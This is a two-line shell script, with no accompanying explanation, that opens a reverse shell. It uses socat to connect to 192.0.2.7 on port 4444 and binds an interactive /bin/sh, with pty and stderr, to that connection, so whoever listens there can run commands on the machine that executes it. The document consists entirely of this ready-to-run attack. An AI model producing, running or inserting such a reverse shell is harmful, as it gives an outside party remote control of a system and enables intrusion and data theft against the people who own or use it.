#!/bin/sh
socat TCP:192.0.2.7:4444 EXEC:/bin/sh,pty,stderr
